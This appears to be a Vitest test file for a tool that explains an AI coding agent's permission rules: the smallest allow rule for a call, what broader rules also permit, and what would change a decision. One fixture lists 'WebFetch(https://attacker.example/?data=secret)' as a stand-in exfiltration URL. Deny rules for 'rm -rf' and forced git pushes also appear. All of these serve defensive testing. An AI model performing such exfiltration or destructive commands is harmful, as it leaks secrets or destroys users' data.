import { beforeAll, describe, expect, it } from 'vitest';
import { prepare } from '../../src/evaluate/index.js';
import { formatWhatIf, whatIf } from '../../src/lint/index.js';
import { projectFixture } from '../../src/testing/fixture.js';

beforeAll(async () => {
  await prepare();
});

describe('whatIf', () => {
  it('offers the narrowest allow rule first, with what broader ones also allow', async () => {
    const project = await projectFixture({ settings: { project: { permissions: { deny: ['Bash(git push --force *)'] } } } });
    const r = whatIf({ tool: 'Bash', input: { command: 'git push origin main' } }, project.context);
    expect(r.decision.behavior).toBe('ask');
    expect(r.smallest?.rule).toBe('Bash(git push origin main)');
    expect(r.candidates.map((c) => c.rule)).toEqual([
      'Bash(git push origin main)',
      'Bash(git push origin *)',
      'Bash(git push *)',
      'Bash(git *)',
      'Bash',
    ]);
    const push = r.candidates.find((c) => c.rule === 'Bash(git push *)')!;
    expect(push.alsoAllows).toContain('Bash(git push x)');
    // the deny rule still wins over any added allow rule:
    expect(push.alsoAllows.some((c) => c.includes('--force'))).toBe(false);
    expect(formatWhatIf(r)).toMatch(/smallest rule that allows it is "Bash\(git push origin main\)"/);
  });

  it('says so when no allow rule can answer a firm ask', async () => {
    const project = await projectFixture({ settings: { project: { permissions: { ask: ['Bash(git push *)'] } } } });
    const r = whatIf({ tool: 'Bash', input: { command: 'git push' } }, project.context);
    expect(r.smallest).toBeUndefined();
    expect(r.candidates.every((c) => !c.allows)).toBe(true);
    expect(formatWhatIf(r)).toMatch(/no single allow rule/);
  });

  it('path and domain candidates', async () => {
    const project = await projectFixture({});
    const read = whatIf({ tool: 'Read', input: { file_path: '/etc/hosts' } }, project.context);
    expect(read.smallest?.rule).toBe('Read(//etc/hosts)');
    const dir = read.candidates.find((c) => c.rule === 'Read(//etc/**)')!;
    expect(dir.alsoAllows).toContain('Read(/etc/.env)');
    const web = whatIf({ tool: 'WebFetch', input: { url: 'https://docs.example.com/a' } }, project.context);
    expect(web.candidates.map((c) => c.rule)).toEqual(['WebFetch(domain:docs.example.com)', 'WebFetch(domain:*.example.com)', 'WebFetch']);
    expect(web.candidates.at(-1)?.alsoAllows).toContain('WebFetch(https://attacker.example/?data=secret)');
  });

  it('has no candidates for calls already decided', async () => {
    const project = await projectFixture({ settings: { project: { permissions: { deny: ['Bash(rm *)'] } } } });
    expect(whatIf({ tool: 'Bash', input: { command: 'rm x' } }, project.context).candidates).toEqual([]);
    expect(whatIf({ tool: 'Bash', input: { command: 'ls' } }, project.context).candidates).toEqual([]);
  });

  describe('what would change the answer', () => {
    const policy = {
      permissions: { allow: ['Bash(npm run test *)', 'Edit(src/**)'], ask: ['Bash(git push *)'], deny: ['Read(./.env)', 'Bash(rm -rf *)'] },
    };

    it('an ask a rule answers: the rule to add, and acceptEdits where that mode alone would allow it', async () => {
      const project = await projectFixture({ settings: { project: policy } });
      expect(whatIf({ tool: 'Bash', input: { command: 'npm install lodash' } }, project.context).change).toBe(
        'add the allow rule "Bash(npm install lodash)"',
      );
      const edit = whatIf(
        { tool: 'Edit', input: { file_path: `${project.context.cwd}/README.md`, old_string: 'a', new_string: 'b' } },
        project.context,
      );
      expect(edit.change).toMatch(/^add the allow rule "Edit\(.*README\.md\)"; or the setting: acceptEdits mode/);
    });

    it('a firm ask or a protected path: only a person, each time, because of the reason the decision gives', async () => {
      const project = await projectFixture({ settings: { project: policy } });
      const push = whatIf({ tool: 'Bash', input: { command: 'git push origin main' } }, project.context);
      expect(push.change).toBe(
        `only a person, each time, because ${push.decision.reason.message} (or changing the ask rule "Bash(git push *)" in ${push.decision.rule?.source.file})`,
      );
      const git = whatIf(
        { tool: 'Edit', input: { file_path: `${project.context.cwd}/.git/config`, old_string: 'a', new_string: 'b' } },
        project.context,
      );
      expect(git.change).toMatch(/^only a person, each time, because .*\.git/);
      expect(formatWhatIf(git)).toContain(`what would change the answer: ${git.change}`);
    });

    it('a deny: only the deny rule that decided; under dontAsk, the mode and then what default mode would need', async () => {
      const project = await projectFixture({ settings: { project: policy } });
      const rm = whatIf({ tool: 'Bash', input: { command: 'rm -rf dist' } }, project.context);
      expect(rm.change).toMatch(/^only changing the deny rule "Bash\(rm -rf \*\)"/);
      const dontAsk = whatIf({ tool: 'Bash', input: { command: 'npm install lodash' } }, { ...project.context, mode: 'dontAsk' });
      expect(dontAsk.decision.behavior).toBe('deny');
      expect(dontAsk.change).toBe(
        'the setting: dontAsk mode denies what would ask; in default mode a person is asked, and then: add the allow rule "Bash(npm install lodash)"',
      );
      expect(whatIf({ tool: 'Bash', input: { command: 'npm run test' } }, project.context).change).toBe('nothing: the call is allowed');
    });
  });
});
